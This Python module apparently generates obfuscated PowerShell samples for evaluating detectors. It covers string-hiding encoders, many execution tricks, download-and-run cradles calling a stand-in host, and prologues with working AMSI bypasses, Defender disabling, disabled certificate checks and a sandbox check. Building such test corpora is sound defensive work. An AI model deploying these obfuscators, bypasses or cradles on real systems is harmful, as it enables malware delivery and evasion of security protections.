"""Further ways to hide a text in PowerShell, and to run one: each takes a random generator and a text.

They are of the kinds that Invoke-Obfuscation, Chameleon, PyFuscation, psobf and loaders that circulate write.
"""

from __future__ import annotations

import base64
import codecs
import gzip
import json
import uuid
from xml.sax.saxutils import escape

from Crypto.Cipher import AES
from evaluate.powershell.obfuscate import casing, cut, quote

TEXTS = {}


def hides(function):
    TEXTS[function.__name__.rstrip("_")] = function
    return function


def word(random):
    return "".join(random.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHXYZ") for _ in range(random.randint(3, 9))) + "q7"


def variable(random):
    name = word(random)
    return random.choice((f"${name}", f"${{{name}}}", f"${{{name}{random.choice('-. !@~=')}}}"))


def b64(data):
    return base64.b64encode(data).decode()


def codes(text, change=ord):
    return ",".join(str(change(c)) for c in text)


def in_quotes(text):
    return text.replace("`", "``").replace('"', '`"').replace("$", "`$")


def shuffled(random, items):
    """(place, item) in another order."""
    return random.sample(list(enumerate(items)), len(items))


# ---------------------------------------------------------------- pieces


@hides
def nested_format(random, text):
    def form(pieces):
        mixed = shuffled(random, pieces)
        places = {place: at for at, (place, _) in enumerate(mixed)}
        return '("' + "".join(f"{{{places[i]}}}" for i in range(len(pieces))) + '" -f ' + ",".join(piece for _, piece in mixed) + ")"

    return form([form([quote(piece) for piece in cut(random, half)]) for half in cut(random, text)])


@hides
def builder(random, text):
    v = variable(random)
    pieces = cut(random, text)
    if random.random() < 0.5:
        return f"$({v}=New-Object Text.StringBuilder;" + "".join(f"[void]{v}.Append({quote(p)});" for p in pieces) + f"{v}.ToString())"
    return f"$({v}=[Text.StringBuilder]::new();" + "".join(f"$null={v}.Insert(0,{quote(p)});" for p in pieces[::-1]) + f"{v}.ToString())"


@hides
def string_functions(random, text):
    pieces = cut(random, text)
    listed = ",".join(map(quote, pieces))
    form = "".join(f"{{{i}}}" for i in range(len(pieces)))
    return random.choice(
        (f"([string]::Concat({listed}))", f"([string]::Join('',({listed})))", f"([string]::Format('{form}',[object[]]({listed})))")
    )


@hides
def inserted_removed_or_cut_out(random, text):
    a, b = sorted((random.randint(0, len(text)), random.randint(0, len(text))))
    noise, more = word(random), word(random)
    return random.choice((
        f"{quote(text[:a] + text[b:])}.{casing(random, 'Insert')}({a},{quote(text[a:b])})",
        f"{quote(text[:a] + noise + text[a:])}.{casing(random, 'Remove')}({a},{len(noise)})",
        f"{quote(noise + text + more)}.{casing(random, 'SubString')}({len(noise)},{len(text)})",
    ))  # fmt: skip


@hides
def sorted_pieces(random, text):
    pieces = shuffled(random, cut(random, text))
    keys = ",".join(str(place) for place, _ in pieces)
    return random.choice((
        "(-join(@(" + ",".join(f"@{{k={i};v={quote(p)}}}" for i, p in pieces) + ")|sort {$_.k}|%{$_.v}))",
        "$($h=@{" + ";".join(f"{i}={quote(p)}" for i, p in pieces) + f"}};-join(0..{len(pieces) - 1}|%{{$h[$_]}}))",
        f"$($k=[int[]]@({keys});$v=[string[]]@({','.join(quote(p) for _, p in pieces)});[array]::Sort($k,$v);-join$v)",
    ))  # fmt: skip


@hides
def expanded(random, text):
    a, b, half = variable(random), variable(random), len(text) // 2
    braced = a if a.startswith("${") else "${" + a[1:] + "}"
    name = word(random)
    return random.choice((
        f'$({a}={quote(text[:half])};{b}={quote(text[half:])};"{braced}$({b})")',
        f"$(${name}={quote(text)};$ExecutionContext.InvokeCommand.ExpandString('$'+'{name}'))",
        '"' + "".join(f"$([char]{ord(c)})" if random.random() < 0.5 else in_quotes(c) for c in text) + '"',
        f"$($OFS='';\"$({','.join(map(quote, text))})\")",
    ))  # fmt: skip


# ---------------------------------------------------------------- numbers


@hides
def bytes_and_digits(random, text):
    raw = text.encode()
    pairs = raw.hex()
    return random.choice((
        f"([Text.Encoding]::UTF8.GetString([byte[]]('{raw.hex('-')}' -split '-'|%{{[Convert]::ToByte($_,16)}})))",
        f"([Text.Encoding]::ASCII.GetString(@({','.join(map(hex, raw))})))",
        f"(-join('{pairs}'-split'(..)'|?{{$_}}|%{{[char][convert]::ToUInt32($_,16)}}))",
        f"(-join([regex]::Matches('{pairs}','..')|%{{[char][byte]\"0x$($_.Value)\"}}))",
        f"(-join('{raw.hex(' ')}'.Split()|%{{[char]([int]::Parse($_,'HexNumber'))}}))",
        f"([Text.Encoding]::UTF8.GetString([bigint]::Parse('0{int.from_bytes(raw, 'little'):x}','HexNumber').ToByteArray()))",
        f"(-join(0..{len(text) - 1}|%{{[char][Convert]::ToInt32('{''.join(f'{c:08b}' for c in raw)}'.Substring($_*8,8),2)}}))",
    ))  # fmt: skip


@hides
def counted(random, text):
    return random.choice((
        f"(-join(@({codes(text, lambda c: -ord(c))})|%{{[char](-$_)}}))",
        f"(-join(@({codes(text, lambda c: ord(c) << 4)})|%{{[char]($_ -shr 4)}}))",
        f"(-join(@({codes(text, lambda c: ~ord(c))})|%{{[char](-bnot $_)}}))",
        f"([string]::new([char[]](@({codes(text)}))))",
        f"(@({codes(text)}).ForEach({{[char]$_}}) -join '')",
    ))  # fmt: skip


@hides
def loops(random, text):
    v, i = variable(random), variable(random)
    given = f"@({codes(text, lambda c: ord(c) * 3 + 1)})"
    back = "[char](({}-1)/3)".format
    return random.choice((
        f"$({v}='';foreach({i} in {given}){{{v}+={back(i)}}};{v})",
        f"$({v}={given};{i}=0;$z='';while({i} -lt {v}.Length){{$z+={back(f'{v}[{i}]')};{i}++}};$z)",
        f"$($z='';{i}=0;$a={given};do{{$z=$z+{back(f'$a[{i}]')};++{i}}}until({i} -ge $a.Count);$z)",
        f"$($a={given};$z=for({i}=0;{i} -lt $a.Length;{i}++){{{back(f'$a[{i}]')}}};-join $z)",
        f"({given}|ForEach-Object -Begin {{$z=''}} -Process {{$z+={back('$_')}}} -End {{$z}})",
        f"$({v}={quote(text[::-1])};$z='';for($i={v}.Length-1;$i -ge 0;$i--){{$z+={v}[$i]}};$z)",
        f"(-join[Linq.Enumerable]::Reverse([char[]]{quote(text[::-1])}))",
    ))  # fmt: skip


@hides
def special_characters(_random, text):
    """Names and digits without a letter, as "special" encodings write them."""
    digits = ["${=}", *("${" + c + "}" for c in "+@.[]()&|")]
    start = "${;}=+$();${=}=${;};" + "".join(f"{name}=++${{;}};" for name in digits[1:])
    start += '${"}="["+"$(@{})"[${)}]+"$(@{})"["${+}${|}"]+"$(@{})"["${@}${=}"]+"$?"[${+}]+"]";'
    spelt = "+".join('"${"}' + "".join(digits[int(d)] for d in str(ord(c))) + '"' for c in text)
    return f"$({start}$x={spelt};(-join($x -split '\\[char\\]'|?{{$_}}|%{{[char][int]$_}})))"


# ---------------------------------------------------------------- alphabets and tables


@hides
def rotated(_random, text):
    return (
        f"(-join({quote(codecs.encode(text, 'rot13'))}.ToCharArray()|%{{$c=[int]$_;if(($c -ge 97 -and $c -le 109) -or ($c -ge 65 -and $c -le 77))"
        "{[char]($c+13)}elseif(($c -ge 110 -and $c -le 122) -or ($c -ge 78 -and $c -le 90)){[char]($c-13)}else{[char]$c}}))"
    )


@hides
def looked_up(random, text):
    letters = sorted(set(text))
    names = {c: f"{word(random)}{i}" for i, c in enumerate(letters)}
    v = variable(random)
    alphabet = "".join(random.sample(sorted({*text, *"abcXYZ0129"}), len({*text, *"abcXYZ0129"})))
    places = codes(text, alphabet.index)
    entries = ";".join(f"'{name}'={quote(c)}" for c, name in names.items())
    return random.choice((
        f"$({v}=@{{{entries}}};-join({','.join(random.choice((v + '[' + quote(names[c]) + ']', v + '.' + names[c])) for c in text)}))",
        f"$({v}={quote(alphabet)};-join(@({places})|%{{{v}[$_]}}))",
        f"(({quote(alphabet)}[{places}])-join'')",
        f"$(-join(0..{len(text) - 1}|%{{switch($_){{{';'.join(f'{i}{{{quote(c)}}}' for i, c in enumerate(text))}}}}}))",
    ))  # fmt: skip


@hides
def among_others(random, text):
    n = random.randint(2, 6)
    mixed = "".join("".join(random.choice("qwertyuiop") for _ in range(n - 1)) + c for c in text)
    return random.choice((
        f"(-join(@(for($i={n - 1};$i -lt {len(mixed)};$i+={n}){{{quote(mixed)}[$i]}})))",
        f"$(function Fz($a){{$r='';for($j={n - 1};$j -lt $a.Length;$j+={n}){{$r+=$a.Substring($j,1)}}$r}};Fz {quote(mixed)})",
        f"(({quote(mixed)}-split'(?s)(.{{{n}}})'|?{{$_}}|%{{$_[-1]}})-join'')",
        f"(({quote(''.join(text[i + 1] + text[i] for i in range(0, len(text) - 1, 2)))} -replace '(?s)(.)(.)','$2$1')+{quote(text[len(text) & ~1 :])})",
    ))  # fmt: skip


@hides
def by_patterns(random, text):
    k = random.randint(1, 5)
    moved = "".join(chr(ord(c) + k) for c in text)
    return random.choice((
        f"([regex]::Replace({quote(moved)},'(?s).',{{param($m)[string][char]([int][char]$m.Value-{k})}}))",
        f"$(if({quote('<<' + text + '>>')} -match '(?s)<<(?<p>.*)>>'){{$Matches['p']}})",
        f"(({quote('zz' + text + 'zz')}|Select-String -Pattern '(?s)zz(.*)zz').Matches[0].Groups[1].Value)",
        f"([regex]::Unescape('{''.join(random.choice((f'{chr(92)}x{ord(c):02x}', f'{chr(92)}u{ord(c):04x}')) for c in text)}'))",
    ))  # fmt: skip


# ---------------------------------------------------------------- encodings, ciphers, formats


@hides
def decoded(random, text):
    name, codec = random.choice((("BigEndianUnicode", "utf-16-be"), ("UTF32", "utf-32-le"), ("UTF7", "utf-7"), ("Default", "ascii")))
    number, other = random.choice((("'utf-8'", "utf-8"), (1252, "ascii"), (28591, "ascii"), (1200, "utf-16-le"), ("'IBM037'", "cp037")))
    back = b64(text.encode("utf-16-le"))[::-1]
    return random.choice((
        f"([Text.Encoding]::{name}.GetString([Convert]::FromBase64String('{b64(text.encode(codec))}')))",
        f"([Text.Encoding]::GetEncoding({number}).GetString([Convert]::FromBase64String('{b64(text.encode(other))}')))",
        f"$($r='{back}'.ToCharArray();[array]::Reverse($r);[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(-join$r)))",
        f"({random.choice(('[uri]::UnescapeDataString', '[Net.WebUtility]::UrlDecode'))}('{''.join(f'%{c:02X}' for c in text.encode())}'))",
        f"([Net.WebUtility]::HtmlDecode('{''.join(f'&#{ord(c)};' for c in text)}'))",
    ))  # fmt: skip


@hides
def combined_with_a_key(random, text):
    key = word(random)
    mixed = bytes(c ^ ord(key[i % len(key)]) for i, c in enumerate(text.encode()))
    v = variable(random)
    return (
        f"$({v}=[Convert]::FromBase64String('{b64(mixed)}');$k=[Text.Encoding]::ASCII.GetBytes('{key}');"
        f"for($i=0;$i -lt {v}.Count;$i++){{{v}[$i]={v}[$i] -bxor $k[$i%$k.Length]}};[Text.Encoding]::UTF8.GetString({v}))"
    )


@hides
def rc4(random, text):
    from Crypto.Cipher import ARC4

    key = (word(random) + "abcde").encode()
    return (
        "$($R={$D,$K=$Args;$I=$J=$H=0;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
        "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};"
        f"[Text.Encoding]::UTF8.GetString([byte[]](& $R ([byte[]]({','.join(map(str, ARC4.new(key).encrypt(text.encode())))}))"
        f" ([Text.Encoding]::ASCII.GetBytes('{key.decode()}')))))"
    )


@hides
def aes(random, text):
    key, iv = random.randbytes(32), random.randbytes(16)
    data = text.encode()
    sealed = AES.new(key, AES.MODE_CBC, iv).encrypt(data + bytes([16 - len(data) % 16]) * (16 - len(data) % 16))
    maker = random.choice((
        "[Security.Cryptography.Aes]::Create()",
        "New-Object Security.Cryptography.AesManaged",
        "New-Object Security.Cryptography.RijndaelManaged",
    ))  # fmt: skip
    return random.choice((
        (f"$($a={maker};$a.Mode='CBC';$a.Key=[Convert]::FromBase64String('{b64(key)}');$a.IV=[Convert]::FromBase64String('{b64(iv)}');"
        f"$x=[Convert]::FromBase64String('{b64(sealed)}');[Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($x,0,$x.Length)))"),
        (f"$($a={maker};$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{b64(iv + sealed)}'));$iv=New-Object byte[] 16;[void]$m.Read($iv,0,16);"
        f"$c=New-Object Security.Cryptography.CryptoStream($m,$a.CreateDecryptor([Convert]::FromBase64String('{b64(key)}'),$iv),'Read');"
        "(New-Object IO.StreamReader($c)).ReadToEnd())"),
    ))  # fmt: skip


@hides
def unpacked(random, text):
    packed = b64(gzip.compress(text.encode(), mtime=0))
    return random.choice((
        (f"$($i=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'));$o=New-Object IO.MemoryStream;$g=New-Object IO.Compression.GZipStream $i,"
        "([IO.Compression.CompressionMode]::Decompress);$g.CopyTo($o);[Text.Encoding]::UTF8.GetString($o.ToArray()))"),
        (f"$($g=[IO.Compression.GZipStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String('{packed}')),0);$b=[byte[]]::new(64);$s='';"
        "while(($n=$g.Read($b,0,64)) -gt 0){$s+=[Text.Encoding]::UTF8.GetString($b,0,$n)};$s)"),
    ))  # fmt: skip


@hides
def as_addresses(random, text):
    raw = text.encode()
    padded = raw + b"\0" * (-len(raw) % 16)
    guids = ",".join(f"'{uuid.UUID(bytes_le=padded[i : i + 16])}'" for i in range(0, len(padded), 16))
    numbers = ",".join("'" + ".".join(map(str, padded[i : i + 4])) + "'" for i in range(0, len(padded), 4))
    form = random.choice((f"@({guids})|%{{([guid]$_).ToByteArray()}}", f"@({numbers})|%{{([Net.IPAddress]$_).GetAddressBytes()}}"))
    return f"([Text.Encoding]::UTF8.GetString([byte[]]({form})).TrimEnd([char]0))"


@hides
def documents(random, text):
    return random.choice((
        f"({quote(json.dumps({'a': [{'b': text}]}))}|ConvertFrom-Json).a[0].b",
        f"([xml]{quote('<a><b>' + escape(text) + '</b></a>')}).a.b",
        f"('x,y','1,\"{text.replace(chr(34), chr(34) * 2).replace(chr(39), chr(39) * 2)}\"'|ConvertFrom-Csv).y",
    ))  # fmt: skip


# ---------------------------------------------------------------- places to keep it


@hides
def kept(random, text):
    n, q = word(random), quote(text)
    return random.choice((
        f"$($env:{n}={q};$env:{n})",
        f"$([Environment]::SetEnvironmentVariable('{n}',{q},'Process');(gci env:{n}).Value)",
        f"$(si env:\\{n} {q};(Get-ChildItem env:{n[:-1]}?).Value)",
        f"$(Set-Variable {n} {q};(Get-Variable {n}).Value)",
        f"$(Set-Item Variable:{n} {q};(gci variable:{n}).Value)",
        f"$(New-Variable -Na {n} -Va {q} -Force;(dir Variable:\\{n[:-2]}*7).Value)",
        f"$(${{Variable:{n}}}={q};gv {n} -ValueOnly)",
        f"$($ExecutionContext.SessionState.PSVariable.Set('{n}',{q});$ExecutionContext.SessionState.PSVariable.GetValue('{n}'))",
        f'$([IO.File]::WriteAllText("$env:TEMP\\{n}",{q});gc $env:TEMP\\{n} -Raw)',
        f"$(New-Item HKCU:\\Software\\{n} -Force|Out-Null;Set-ItemProperty HKCU:\\Software\\{n} v {q};(gp HKCU:\\Software\\{n}).v)",
    ))  # fmt: skip


@hides
def handed_on(random, text):
    n, a, b = word(random), quote(text[: len(text) // 2]), quote(text[len(text) // 2 :])
    return random.choice((
        f"$(function {n}($a,$b){{$a+$b}};{n} {a} {b})",
        f'$(function {n}{{param([string]$x,$y)return "$x$y"}};{n} -y {b} -x {a})',
        f"$(${{function:{n}}}={{$args[0]+$args[1]}};{n} {a} {b})",
        f"$(filter {n}{{$_+{b}}};{a}|{n})",
        f"$(${n}={{param($z){a}+$z}}.GetNewClosure();${n}.Invoke({b}))",
        f"$(New-Item -Path function: -Name {n} -Value {{ \"$($args -join '')\" }}|Out-Null;{n} {a} {b})",
        f"$(function {n}{{param($A,$B)$A+$B}};$p=@{{B={b};A={a}}};{n} @p)",
        f"$(try{{throw {quote(text)}}}catch{{$_.Exception.Message}})",
    ))  # fmt: skip


@hides
def in_objects(random, text):
    n, q = word(random), quote(text)
    return random.choice((
        f"([pscustomobject]@{{{n}={q}}}).'{n}'",
        f"$($x=New-Object object|Add-Member -MemberType ScriptMethod -Name {n} -Value {{ $args[0] }} -PassThru;$x.{n}({q}))",
        f"$(class {n}{{static [string]g($a){{return $a}}}};[{n}]::g({q}))",
        f"$(class {n}{{[string]$v;{n}([string]$x){{$this.v=$x}}}};([{n}]::new({q})).v)",
        f"([Tuple]::Create({q},1)).Item1",
        f"$($d=New-Object 'Collections.Generic.Dictionary[string,string]';$d.Add('{n}',{q});$d['{n}'])",
        f"$($s=New-Object Collections.Stack;$s.Push({q});$s.Pop())",
    ))  # fmt: skip


# ---------------------------------------------------------------- running it

_ENCODED = "[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes(({})))".format

INVOKES = (
    lambda _random, e: f"[scriptblock]::Create(({e})).InvokeReturnAsIs()",
    lambda _random, e: f"$ExecutionContext.InvokeCommand.NewScriptBlock(({e})).Invoke()",
    lambda _random, e: f"$ExecutionContext.(($ExecutionContext|Get-Member|?{{$_.Name -like '*and'}}).Name).InvokeScript(({e}))",
    lambda _random, e: f"(Item Variable:E*t).Value.InvokeCommand.InvokeScript(({e}))",
    lambda _random, e: f"$p=[powershell]::Create();$null=$p.AddScript(({e}));$h=$p.BeginInvoke();$p.EndInvoke($h)",
    lambda _random, e: f"$r=[runspacefactory]::CreateRunspace();$r.Open();$p=$r.CreatePipeline();$p.Commands.AddScript(({e}));$p.Invoke()",
    lambda _random, e: f"$Host.Runspace.CreateNestedPipeline(({e}),$false).Invoke()",
    lambda random, e: f"Set-Alias -Name {(n := word(random))} -Value ('i'+'ex');({e})|{n}",
    lambda random, e: f"New-Item -Path alias:{(n := word(random))} -Value iex|Out-Null;({e})|&{n}",
    lambda _random, e: f"&(gal i?x) ({e})",
    lambda _random, e: f"&(Get-Alias -Definition Invoke-Ex*) ({e})",
    lambda _random, e: f"({e})|ForEach-Object {{ . ('{{1}}{{0}}'-f'ex','i') $_ }}",
    lambda _random, e: f"&(-join([char]105,[char]101,[char]120)) ({e})",
    lambda _random, e: f"({e})|.(([string]''.IndexOf)[0,7,8]-join'')",
    lambda random, e: f"function {(n := word(random))}{{process{{iex $_}}}};({e})|{n}",
    lambda random, e: f"Set-Item function:{(n := word(random))} ([scriptblock]::Create(({e})));{n}",
    lambda random, e: f"$env:{(n := word(random))}=({e});powershell -nop -c '(gci env:{n}).Value|iex'",
    lambda _random, e: f"Set-Clipboard ({e});iex (Get-Clipboard -Raw)",
    lambda _random, e: f"Start-Job {{param($c)iex $c}} -ArgumentList ({e})",
    lambda _random, e: f"powershell -enc ({_ENCODED(e)})",
    lambda _random, e: f"powershell {{iex $args[0]}} -args ({e})",
    lambda _random, e: f"({e})|cmd /c powershell -",
    lambda _random, e: f"Trace-Command -Name x -Expression ([scriptblock]::Create(({e})))",
    lambda _random, e: f"try{{throw 1}}catch{{iex ({e})}}finally{{}}",
    lambda _random, e: f"do{{iex ({e});break}}while($true)",
    lambda _random, e: f"Register-ObjectEvent (New-Object Timers.Timer) Elapsed -Action ([ScriptBlock]::Create(({e})))",
    lambda random, e: f"class {(n := word(random))}{{static [void]go($c){{iex $c}}}};[{n}]::go(({e}))",
    lambda _random, e: f"[scriptblock].GetMethod('Create').Invoke($null,@(({e}))).Invoke()",
    lambda _random, e: f"iex(New-Object IO.StreamReader([IO.MemoryStream]::new([Text.Encoding]::UTF8.GetBytes(({e}))))).ReadToEnd()",
    lambda random, e: f'$f="$env:TEMP\\{word(random)}.ps1";({e})|Out-File $f;powershell -ep bypass -File $f',
    lambda random, e: f'$f="$env:TEMP\\{word(random)}.psm1";[IO.File]::WriteAllText($f,({e}));Import-Module $f',
    lambda _random, e: f"New-Module -ScriptBlock ([scriptblock]::Create(({e})))|Out-Null",
    lambda _random, e: f"$t=[Threading.Thread]::new([Threading.ThreadStart]{{iex ({e})}});$t.Start()",
    lambda _random, e: f"[Threading.Tasks.Task]::Run([Action]{{iex ({e})}})",
    lambda _random, e: f"$PSDefaultParameterValues=@{{'Invoke-*:Command'=({e})}};Invoke-Expression",
    lambda _random, e: f"&{{[CmdletBinding()]param([Parameter(ValueFromPipeline)]$c)process{{iex $c}}}} ({e})",
)

_U = "'http://a.example.test/x'"

CRADLES = (
    f"IEX (New-Object Net.WebClient).DownloadString({_U})",
    f"Invoke-WebReque`st {_U} -OutFile $env:TEMP\\a.exe;saps $env:TEMP\\a.exe",
    f"$w=[Net.WebClient]::new();$w.Headers['User-Agent']='x';$w.('Down'+'loadFile').Invoke({_U},\"$env:APPDATA\\b.exe\");& \"$env:APPDATA\\b.exe\"",
    f"irm {_U}|iex",
    f"$h=New-Object -Com ('MsXml2.'+'Xm'+'lHttp');$h.open('GET',{_U},$false);$h.send();iex $h.responseText",
    f"Start-BitsTransfer {_U} $env:TEMP\\c.exe;ii $env:TEMP\\c.exe",
    f"&('{{1}}{{0}}'-f'ex','i')(([Net.WebRequest]::Create({_U})).GetResponse().GetResponseStream()|%{{(New-Object IO.StreamReader($_)).ReadToEnd()}})",
)
"""Ways to fetch and run."""

PROLOGUES = (
    "",
    (
        '[Ref].Assembly.GetType(\'System.Management.Automation.\'+$("41 6D 73 69 55 74 69 6C 73".Split(" ")|%{[char]([convert]::toint16($_,16))}|%{$r=$r+$_};$r))'
        ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true);"
    ),
    (
        "$a=[Ref].Assembly.GetTypes();Foreach($b in $a){if($b.Name -like '*iUtils'){$c=$b}};$d=$c.GetFields('NonPublic,Static');Foreach($e in $d)"
        "{if($e.Name -like '*Context'){$f=$e}};[IntPtr]$p=$f.GetValue($null);[Int32[]]$b=@(0);[Runtime.InteropServices.Marshal]::Copy($b,0,$p,1);"
    ),
    "Set-MpPreference -DisableRealtimeMonitoring $true -EA 0;$ErrorActionPreference='SilentlyContinue';",
    "[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;[Net.ServicePointManager]::ServerCertificateValidationCallback={$true};",
    "if([Environment]::UserName -eq 'sandbox'){exit};Start-Sleep -Seconds 3;",
)
"""What stands before: protection is switched off, certificates and the surroundings are looked at."""
